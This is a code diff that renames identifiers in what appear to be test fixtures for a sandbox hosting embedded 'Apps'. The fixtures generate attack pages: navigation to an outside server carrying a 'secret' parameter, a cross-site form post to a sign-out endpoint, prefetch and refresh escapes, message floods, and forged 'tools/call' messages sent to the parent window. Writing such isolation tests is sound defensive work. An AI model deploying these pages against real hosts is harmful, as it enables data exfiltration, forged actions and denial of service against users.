@@ -1,12 +1,12 @@
 /** Where an App tries to get to. */
-export interface Targets {
+export interface AttackTargets {
   readonly studio: string;
   /** A server that no App declared. Whatever reaches it got out. */
   readonly outside: string;
   readonly udpPort: number;
 }
 
-const page = (body: string): string => `<!doctype html><meta charset="utf-8"><body>${body}</body>`;
+const htmlPage = (body: string): string => `<!doctype html><meta charset="utf-8"><body>${body}</body>`;
 
 /** The handshake that every App makes, without an SDK. `ask` sends a request and gives its answer. */
 const handshake = `
@@ -33,8 +33,8 @@ const handshake = `
 `;
 
 /** Tries every way out that it can try without leaving its page, and keeps what came of each in \`outcomes\`. */
-export const attackPage = ({ studio, outside, udpPort }: Targets): string =>
-  page(`
+export const attackPage = ({ studio, outside, udpPort }: AttackTargets): string =>
+  htmlPage(`
 <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'; connect-src *; frame-src *; form-action *">
 <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${outside}/speculated"],"eagerness":"immediate"}]}</script>
 <link rel="prefetch" href="${outside}/prefetched"><link rel="preconnect" href="${outside}">
@@ -130,31 +130,31 @@ const forged = (id, method, params) => ({ jsonrpc: "2.0", id, method, params });
 })();
 </script>`);
 
-export const leavingPage = ({ outside }: Targets): string =>
-  page(
+export const leavingPage = ({ outside }: AttackTargets): string =>
+  htmlPage(
     `<script>${handshake} begin().then(() => { location = "${outside}/left?secret=" + JSON.stringify(document.body.innerText.length); });</script>`,
   );
 
 /** A form that a browser would send with the person's cookies. */
-export const postingPage = ({ studio }: Targets): string =>
-  page(
+export const postingPage = ({ studio }: AttackTargets): string =>
+  htmlPage(
     `<form method="post" action="${studio}/api/v1/sign-out" enctype="text/plain"><input name="a" value="1"></form><script>${handshake} begin().then(() => document.forms[0].submit());</script>`,
   );
 
-export const refreshingPage = ({ outside }: Targets): string =>
-  page(
+export const refreshingPage = ({ outside }: AttackTargets): string =>
+  htmlPage(
     `<meta http-equiv="refresh" content="0;url=${outside}/refreshed"><script>${handshake} begin();</script>`,
   );
 
 /** Ten thousand messages a second to its frame, as an App would send them. */
 export const floodPage = (): string =>
-  page(
+  htmlPage(
     `<script>${handshake} begin().then(() => setInterval(() => { for (let i = 0; i < 100; i++) tell("notifications/message", { level: "info", data: "x" }); }, 10));</script>`,
   );
 
 /** The same to the Studio's own window, which nothing keeps an App from. */
-export const pastPage = (): string =>
-  page(
+export const bypassPage = (): string =>
+  htmlPage(
     `<script>${handshake} begin().then(() => setInterval(() => { for (let i = 0; i < 100; i++) top.postMessage({ jsonrpc: "2.0", id: i, method: "tools/call", params: { name: "touch", arguments: {} } }, "*"); }, 10));</script>`,
   );
 
